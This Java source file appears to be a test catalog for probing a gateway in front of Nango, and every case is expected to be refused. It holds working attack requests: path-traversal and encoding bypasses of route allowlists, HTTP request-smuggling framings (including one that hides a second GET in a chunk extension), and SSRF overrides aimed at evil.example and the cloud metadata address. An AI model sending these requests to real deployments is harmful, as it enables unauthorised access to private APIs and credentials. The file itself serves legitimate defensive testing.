package nangogateway.probe;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.function.BinaryOperator;
import java.util.function.Function;

/**
 * The attack battery, in a form that can be aimed at any deployment: target spellings that bypass a prefix
 * route, and request smuggling by ambiguous framing. Each case is one that a correct front end refuses and that
 * Nango itself would not refuse (see {@link ProbeCase}), so a refusal status really is the front end's doing.
 */
public final class ProbeCatalog {
    /** An allowed public route that private paths are hidden behind. */
    static final String ANCHOR = "/oauth/callback";
    /** An allowed route with a body, for framing attacks; the environment id is a well-formed UUID. */
    static final String WEBHOOK = "/webhook/0e9d1a52-3a44-4f0a-9a4c-3b6c5b8d2f10/probe";
    /** Real Nango routes behind its secret key or dashboard session. */
    static final List<String> PRIVATE_TARGETS = List.of("/api/v1/account", "/connection/x", "/proxy/x", "/config/x");
    /** A well-formed but unknown secret key: Nango answers it with 401, never with a refusal status. */
    static final String SECRET_KEY = "Authorization: Bearer 00000000-0000-4000-8000-000000000000\r\n";
    static final String SESSION_TOKEN = "Authorization: Bearer nango_connect_session_" + "0".repeat(64) + "\r\n";
    static final String CHUNKED_BODY = "5\r\nhello\r\n0\r\n\r\n";

    private ProbeCatalog() {
    }

    public static List<ProbeCase> all() {
        List<ProbeCase> cases = new ArrayList<>();
        cases.addAll(bypass());
        cases.addAll(smuggling());
        cases.addAll(privateRoutes());
        cases.addAll(override());
        return List.copyOf(cases);
    }

    public static List<ProbeCase> of(Set<ProbeKind> kinds) {
        return all().stream().filter(c -> kinds.contains(c.kind())).toList();
    }

    // ------------------------------------------------------------------------------------------------ helpers

    /** Host first, so that a case which breaks a later header still names the right virtual host. */
    static String head(String authority) {
        return "Host: " + authority + "\r\nUser-Agent: nango-gateway-probe\r\n";
    }

    static Function<String, String> request(String method, String target, String headers, String body) {
        return a -> method + " " + target + " HTTP/1.1\r\n" + head(a) + headers + "\r\n" + body;
    }

    static Function<String, String> get(String target) {
        return request("GET", target, "", "");
    }

    /** A request with a complete framed body on the webhook route: an allowed path, so only framing is judged. */
    static Function<String, String> post(String framingHeaders, String body) {
        return request("POST", WEBHOOK, framingHeaders, body);
    }

    // --------------------------------------------------------------------------------------------- bypass

    /** A bypass spelling turns (allowed anchor, private path) into one target. */
    private record Spelling(String name, BinaryOperator<String> build) {
    }

    private static final List<Spelling> SPELLINGS = List.of(
            new Spelling("dot segments", (a, p) -> a + "/../.." + p),
            new Spelling("encoded dots %2e%2e", (a, p) -> a + "/%2e%2e/%2e%2e" + p),
            new Spelling("mixed dots .%2E", (a, p) -> a + "/.%2E/.%2E" + p),
            new Spelling("encoded slash ..%2f", (a, p) -> a + "/..%2f..%2f" + p.substring(1)),
            new Spelling("every slash %2f", (a, p) -> "/" + p.substring(1).replace("/", "%2f")),
            new Spelling("path parameter ..;/", (a, p) -> a + "/..;/..;" + p),
            new Spelling("semicolon", (a, p) -> p + ";" + a),
            new Spelling("backslashes", (a, p) -> a + "\\..\\.." + p.replace('/', '\\')),
            new Spelling("encoded backslash %5c", (a, p) -> a + "%5c..%5c..%5c" + p.substring(1).replace("/", "%5c")),
            new Spelling("fragment", (a, p) -> p + "#" + a),
            new Spelling("encoded question mark", (a, p) -> a + "%3f/../.." + p),
            new Spelling("double encoding %252e", (a, p) -> a + "/%252e%252e/%252e%252e" + p),
            new Spelling("overlong UTF-8 dots", (a, p) -> a + "/%c0%ae%c0%ae/%c0%ae%c0%ae" + p),
            new Spelling("raw fullwidth dots", (a, p) -> a + "/\u00ef\u00bc\u008e\u00ef\u00bc\u008e/"
                    + "\u00ef\u00bc\u008e\u00ef\u00bc\u008e" + p),
            new Spelling("encoded NUL", (a, p) -> a + "%00/../.." + p),
            new Spelling("empty segment", (a, p) -> "/" + p),
            new Spelling("upper case", (a, p) -> p.toUpperCase(Locale.ROOT)),
            new Spelling("trailing slash", (a, p) -> p + "/"),
            new Spelling("encoded letter", (a, p) -> String.format("/%%%02x", (int) p.charAt(1)) + p.substring(2)));

    static List<ProbeCase> bypass() {
        List<ProbeCase> t = new ArrayList<>(traversals());
        for (Spelling s : SPELLINGS) {
            for (String p : PRIVATE_TARGETS) {
                t.add(bypass(s.name() + " to " + p, get(s.build().apply(ANCHOR, p))));
            }
        }
        // Absolute-form: Node routes on the embedded path, whatever the authority.
        for (String p : PRIVATE_TARGETS) {
            String target = p;
            t.add(bypass("absolute-form to " + p, a -> "GET http://" + a + target + " HTTP/1.1\r\n" + head(a) + "\r\n"));
        }
        t.add(bypass("absolute-form naming Nango's port", get("http://127.0.0.1:3003/api/v1/account")));
        t.add(bypass("authority-form CONNECT to Nango's port",
                a -> "CONNECT 127.0.0.1:3003 HTTP/1.1\r\n" + head(a) + "\r\n"));
        t.add(bypass("tab separators in the request line",
                a -> "GET\t/api/v1/account\tHTTP/1.1\r\n" + head(a) + "\r\n"));
        t.add(bypass("rewrite headers naming an allowed path", request("GET", "/api/v1/account",
                "X-Original-URL: " + ANCHOR + "\r\nX-Rewrite-URL: " + ANCHOR + "\r\n", "")));
        return t;
    }

    // ---------------------------------------------------------------------------------- private-first traversals

    /**
     * Private paths a traversal starts from, one or two per family: the /proxy API, the secret-key API (exact
     * one-segment routes such as {@code /connection/:id}, prefix ones such as {@code /v1/*}), the dashboard API,
     * the MCP endpoint and a dashboard page.
     */
    static final List<String> TRAVERSAL_STARTS = List.of("/proxy/x", "/connection/x", "/config/x", "/v1/x",
            "/connections", "/environment-variables", "/mcp", "/api/v1/account", "/signin");
    /** Allowed routes to climb to: Nango's callback (GET) and the webhook route (POST). */
    static final List<String> TRAVERSAL_ANCHORS = List.of("GET " + ANCHOR, "POST " + WEBHOOK);

    /**
     * How a traversal spells its climb: each {@code ..} as {@code dots}, each separator after the private path as
     * {@code separator}, and (when {@code wholeTail}) the allowed route's own slashes too, which makes the whole
     * tail one segment for a router that matches on the raw path (Express's {@code /connection/:connectionId}).
     */
    private record Climb(String name, String dots, String separator, boolean wholeTail, boolean upperCasePrivate) {
        /**
         * @param inPlace the climb replaces the private path's last segment: the first separator stays a plain
         *                {@code /}, so an encoded tail is that segment's value ({@code /connection/..%2Foauth%2F...});
         *                after the whole path, an encoded first separator makes the last segment absorb the tail
         */
        String spell(String privatePart, int up, String anchor, boolean inPlace) {
            String rest = anchor.substring(1);
            String first = wholeTail && !inPlace ? separator : "/";
            String start = upperCasePrivate ? privatePart.toUpperCase(Locale.ROOT) : privatePart;
            return start + first + (dots + separator).repeat(up) + (wholeTail ? rest.replace("/", separator) : rest);
        }
    }

    private static final List<Climb> CLIMBS = List.of(
            new Climb("dot segments", "..", "/", false, false),
            new Climb("encoded dots %2e%2e", "%2e%2e", "/", false, false),
            new Climb("mixed dots .%2E", ".%2E", "/", false, false),
            new Climb("encoded slashes ..%2f", "..", "%2f", false, false),
            new Climb("every slash %2F", "..", "%2F", true, false),
            new Climb("all encoded %2e%2e%2f", "%2e%2e", "%2f", true, false),
            new Climb("backslashes", "..", "\\", true, false),
            new Climb("encoded backslashes %5c", "..", "%5c", true, false),
            new Climb("path parameter ..;/", "..;", "/", false, false),
            new Climb("upper-case private path", "..", "/", false, true),
            new Climb("double encoding %252e", "%252e%252e", "/", false, false),
            new Climb("overlong UTF-8 dots", "%c0%ae%c0%ae", "/", false, false));

    /**
     * Private path first, then exactly as many {@code ..} as it has segments, then an allowed route: a front end
     * that decodes and resolves the target sees only the allowed route and may pass the raw target on (nginx does,
     * with {@code proxy_pass} and no URI), while Nango's router, which resolves nothing, sees the private path.
     * Climbing one level too many is answered 400 by nginx, so the count must be exact. Two starts per private path:
     * after its last segment, and in place of it (then the tail is that segment's value for a one-segment route).
     */
    static List<ProbeCase> traversals() {
        List<ProbeCase> t = new ArrayList<>();
        for (String anchor : TRAVERSAL_ANCHORS) {
            String method = anchor.substring(0, anchor.indexOf(' '));
            String anchorPath = anchor.substring(method.length() + 1);
            String headers = method.equals("GET") ? "" : "Content-Type: application/json\r\nContent-Length: 2\r\n";
            String body = method.equals("GET") ? "" : "{}";
            for (String start : TRAVERSAL_STARTS) {
                if (!method.equals("GET") && start.equals("/signin")) {
                    continue; // the dashboard's pages answer GET only
                }
                int segments = start.substring(1).split("/").length;
                List<String> parts = new ArrayList<>(List.of(start));
                if (segments > 1) {
                    parts.add(start.substring(0, start.lastIndexOf('/')));
                }
                for (String part : parts) {
                    int up = part.substring(1).split("/").length;
                    for (Climb c : CLIMBS) {
                        String target = c.spell(part, up, anchorPath, !part.equals(start));
                        String where = part.equals(start) ? " from " + start : " from " + part + "/ (in place of "
                                + start.substring(part.length() + 1) + ")";
                        t.add(new ProbeCase(ProbeKind.BYPASS, c.name() + where + " to " + anchor,
                                request(method, target, headers, body), ProbeCase.Rule.REFUSE,
                                new ProbeCase.Aim(start, method, anchorPath,
                                        request(method, anchorPath, headers, body))));
                    }
                }
            }
        }
        return t;
    }

    private static ProbeCase bypass(String name, Function<String, String> request) {
        return new ProbeCase(ProbeKind.BYPASS, name, request, ProbeCase.Rule.REFUSE);
    }

    // ------------------------------------------------------------------------------------------ smuggling

    static List<ProbeCase> smuggling() {
        List<ProbeCase> t = new ArrayList<>();
        // Content-Length and Transfer-Encoding together, in either order
        t.add(framing("CL+TE", post("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", CHUNKED_BODY)));
        t.add(framing("TE+CL", post("Transfer-Encoding: chunked\r\nContent-Length: 5\r\n", CHUNKED_BODY)));
        t.add(framing("CL 0 + TE", post("Content-Length: 0\r\nTransfer-Encoding: chunked\r\n", CHUNKED_BODY)));
        t.add(framing("TE on HTTP/1.0", a -> "POST " + WEBHOOK + " HTTP/1.0\r\n" + head(a)
                + "Transfer-Encoding: chunked\r\n\r\n" + CHUNKED_BODY));
        // duplicate and malformed Content-Length
        t.add(framing("two differing Content-Length", post("Content-Length: 5\r\nContent-Length: 6\r\n", "hello!")));
        t.add(framing("two equal Content-Length", post("Content-Length: 5\r\nContent-Length: 5\r\n", "hello")));
        for (String cl : List.of("5, 5", "+5", "-1", "0x5", "5 5")) {
            t.add(framing("Content-Length '" + cl + "'", post("Content-Length: " + cl + "\r\n", "hello")));
        }
        // Transfer-Encoding other than exactly one 'chunked'
        for (String te : List.of("xchunked", "chunked, identity", "identity, chunked", "gzip, chunked", "\"chunked\"",
                "chunked\t", "chunked ", "\u000bchunked")) {
            t.add(framing("Transfer-Encoding '" + Printable.show(te, 40) + "'",
                    post("Transfer-Encoding: " + te + "\r\n", CHUNKED_BODY)));
        }
        t.add(framing("two Transfer-Encoding headers",
                post("Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n", CHUNKED_BODY)));
        t.add(framing("space before the colon", post("Transfer-Encoding : chunked\r\n", CHUNKED_BODY)));
        t.add(framing("underscore: Transfer_Encoding", post("Transfer_Encoding: chunked\r\nContent-Length: 5\r\n",
                "hello")));
        t.add(framing("underscore: Content_Length", post("Content_Length: 5\r\n", "hello")));
        // obs-fold, line endings, control bytes
        t.add(framing("obs-fold on Transfer-Encoding", post("Transfer-Encoding:\r\n chunked\r\n", CHUNKED_BODY)));
        t.add(framing("obs-fold hiding Transfer-Encoding", post("X-Foo: bar\r\n Transfer-Encoding: chunked\r\n",
                CHUNKED_BODY)));
        t.add(framing("obs-fold after Host", request("GET", ANCHOR, " x\r\n", "")));
        t.add(framing("bare LF line endings", a -> "GET " + ANCHOR + " HTTP/1.1\nHost: " + a + "\n\n"));
        t.add(framing("bare CR line endings", a -> "GET " + ANCHOR + " HTTP/1.1\rHost: " + a + "\r\r\n\r\n"));
        t.add(framing("NUL in a header value", request("GET", ANCHOR, "X-A: a\0b\r\n", "")));
        t.add(framing("CR in a value hiding a header", request("GET", ANCHOR,
                "X-A: a\rX-Original-URL: /api/v1/account\r\n", "")));
        t.add(framing("NUL before the request line", a -> "\0GET " + ANCHOR + " HTTP/1.1\r\n" + head(a) + "\r\n"));
        // Host
        t.add(framing("no Host", a -> "GET " + ANCHOR + " HTTP/1.1\r\nUser-Agent: nango-gateway-probe\r\n\r\n"));
        t.add(framing("two Hosts", request("GET", ANCHOR, "Host: evil.example\r\n", "")));
        t.add(framing("Host with a path", a -> "GET " + ANCHOR + " HTTP/1.1\r\nHost: " + a + "/api/v1\r\n\r\n"));
        // versions
        for (String v : List.of("HTTP/1.2", "HTTP/2.0", "http/1.1", "HTTP/0.9")) {
            t.add(framing("version " + v, a -> "GET " + ANCHOR + " " + v + "\r\n" + head(a) + "\r\n"));
        }
        t.add(framing("no version", a -> "GET " + ANCHOR + "\r\n" + head(a) + "\r\n"));
        // chunked body framing on an admitted head
        t.add(chunk("chunk size 0x5", "0x5\r\nhello\r\n0\r\n\r\n"));
        t.add(chunk("chunk size with leading space", " 5\r\nhello\r\n0\r\n\r\n"));
        t.add(chunk("bare LF after chunk size", "5\nhello\r\n0\r\n\r\n"));
        t.add(chunk("quoted CRLF in a chunk extension",
                "5;a=\"\r\n0\r\n\r\nGET /api/v1/account HTTP/1.1\r\nHost: x\r\n\r\n\"\r\nhello\r\n0\r\n\r\n"));
        // sizes beyond what Nango accepts; Connection naming headers the front end owns
        t.add(framing("request line over 8 KiB", get(ANCHOR + "?x=" + "a".repeat(9000))));
        t.add(framing("header block over 16 KiB", request("GET", ANCHOR, "X-Big: " + "a".repeat(17 * 1024) + "\r\n",
                "")));
        t.add(framing("Connection naming Host", request("GET", ANCHOR, "Connection: close, Host\r\n", "")));
        t.add(framing("Connection naming Content-Length", post("Content-Length: 5\r\nConnection: Content-Length\r\n",
                "hello")));
        return t;
    }

    private static ProbeCase framing(String name, Function<String, String> request) {
        return new ProbeCase(ProbeKind.SMUGGLING, name, request, ProbeCase.Rule.REFUSE_AND_CLOSE);
    }

    /** Bad chunked framing after a valid head on the webhook route. */
    private static ProbeCase chunk(String name, String body) {
        return new ProbeCase(ProbeKind.SMUGGLING, name, post("Transfer-Encoding: chunked\r\n", body),
                ProbeCase.Rule.REFUSE_BODY_AND_CLOSE);
    }

    // -------------------------------------------------------------------------------------------- private

    static List<ProbeCase> privateRoutes() {
        List<ProbeCase> t = new ArrayList<>();
        // dashboard and no-auth operational routes (Nango answers 200)
        for (String p : List.of("/", "/signin", "/index.html", "/health", "/ready", "/env.js", "/providers.json")) {
            t.add(priv("GET " + p, get(p)));
        }
        // the dashboard API and the secret-key API (Nango answers 401 without credentials)
        for (String p : List.of("/api/v1/account", "/api/v1/meta", "/api/v1/environments", "/connection/abc",
                "/connections", "/proxy/x", "/config/x", "/environment-variables", "/records", "/v1/x",
                "/internal/users", "/oauth2/auth/x")) {
            t.add(priv("GET " + p, get(p)));
        }
        t.add(priv("HEAD /api/v1/account", request("HEAD", "/api/v1/account", "", "")));
        t.add(priv("POST /connect/sessions", request("POST", "/connect/sessions",
                SECRET_KEY + "Content-Type: application/json\r\nContent-Length: 2\r\n", "{}")));
        t.add(priv("POST /connect/sessions/reconnect", request("POST", "/connect/sessions/reconnect",
                SECRET_KEY + "Content-Type: application/json\r\nContent-Length: 2\r\n", "{}")));
        t.add(priv("DELETE /connection/abc", request("DELETE", "/connection/abc?provider_config_key=x", SECRET_KEY,
                "")));
        t.add(priv("POST /proxy/x", request("POST", "/proxy/x", SECRET_KEY + "Content-Length: 0\r\n", "")));
        t.add(priv("POST /mcp", request("POST", "/mcp", SECRET_KEY + "Content-Length: 0\r\n", "")));
        // Connect UI routes with a secret key instead of a session token, and a session-token method not in use
        t.add(priv("GET /integrations with a secret key", request("GET", "/integrations", SECRET_KEY, "")));
        t.add(priv("GET /providers with a secret key", request("GET", "/providers", SECRET_KEY, "")));
        t.add(priv("DELETE /connect/session", request("DELETE", "/connect/session", SESSION_TOKEN, "")));
        // Nango's CORS handler answers a preflight on any path
        t.add(priv("OPTIONS /api/v1/meta", request("OPTIONS", "/api/v1/meta", "Origin: https://evil.example\r\n"
                + "Access-Control-Request-Method: GET\r\n", "")));
        // protocol switches aimed past the allowlist
        t.add(priv("WebSocket upgrade on /api/v1/meta", request("GET", "/api/v1/meta", "Connection: Upgrade\r\n"
                + "Upgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n",
                "")));
        t.add(priv("h2c upgrade on /", request("GET", "/", "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
                + "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n", "")));
        return t;
    }

    private static ProbeCase priv(String name, Function<String, String> request) {
        return new ProbeCase(ProbeKind.PRIVATE, name, request, ProbeCase.Rule.REFUSE);
    }

    // ------------------------------------------------------------------------------------------- override

    static String proxyHeaders(String providerKey, String override) {
        return SECRET_KEY + "Provider-Config-Key: " + providerKey + "\r\nConnection-Id: probe\r\n"
                + "Base-Url-Override: " + override + "\r\n";
    }

    /**
     * A foreign Base-Url-Override on the /proxy API. On a public listener the whole API is private; on a listener
     * that enforces the providers' allow lists the foreign origin is refused, so every case must be refused on both.
     */
    static List<ProbeCase> override() {
        List<ProbeCase> t = new ArrayList<>();
        String evil = proxyHeaders("github", "https://evil.example");
        t.add(over("GET to a foreign host", request("GET", "/proxy/user", evil, "")));
        t.add(over("POST to a foreign host", request("POST", "/proxy/user", evil + "Content-Length: 2\r\n", "{}")));
        t.add(over("PATCH to a foreign host", request("PATCH", "/proxy/user", evil + "Content-Length: 2\r\n", "{}")));
        t.add(over("Dropbox download path to a foreign host", request("GET", "/proxy/2/files/download",
                proxyHeaders("dropbox", "https://evil.example"), "")));
        t.add(over("to the cloud metadata address", request("GET", "/proxy/latest/meta-data",
                proxyHeaders("github", "http://169.254.169.254"), "")));
        t.add(over("to Nango itself", request("GET", "/proxy/api/v1/account",
                proxyHeaders("github", "http://127.0.0.1:3003"), "")));
        t.add(over("lower-case header name", request("GET", "/proxy/user", SECRET_KEY
                + "provider-config-key: github\r\nconnection-id: probe\r\nbase-url-override: https://evil.example\r\n",
                "")));
        t.add(over("allowed and foreign override together", request("GET", "/proxy/2/files/download",
                proxyHeaders("dropbox", "https://content.dropboxapi.com") + "Base-Url-Override: https://evil.example\r\n",
                "")));
        t.add(over("catalog alias as provider key", request("GET", "/proxy/gmail/v1/users/me/messages",
                proxyHeaders("gmail", "https://evil.example"), "")));
        t.add(over("foreign host with a path", request("GET", "/proxy/user",
                proxyHeaders("dropbox", "https://content.dropboxapi.com.evil.example/x"), "")));
        t.add(over("/proxy without a trailing slash", request("GET", "/proxy?x=1", evil, "")));
        t.add(over("upper-case /PROXY", request("GET", "/PROXY/user", evil, "")));
        t.add(over("dot segments into /proxy", request("GET", ANCHOR + "/../../proxy/user", evil, "")));
        t.add(over("encoded slash into /proxy", request("GET", "/proxy%2fuser", evil, "")));
        t.add(over("preflight on /proxy", request("OPTIONS", "/proxy/user", "Origin: https://evil.example\r\n"
                + "Access-Control-Request-Method: GET\r\nAccess-Control-Request-Headers: base-url-override\r\n", "")));
        return t;
    }

    private static ProbeCase over(String name, Function<String, String> request) {
        return new ProbeCase(ProbeKind.OVERRIDE, name, request, ProbeCase.Rule.REFUSE);
    }
}
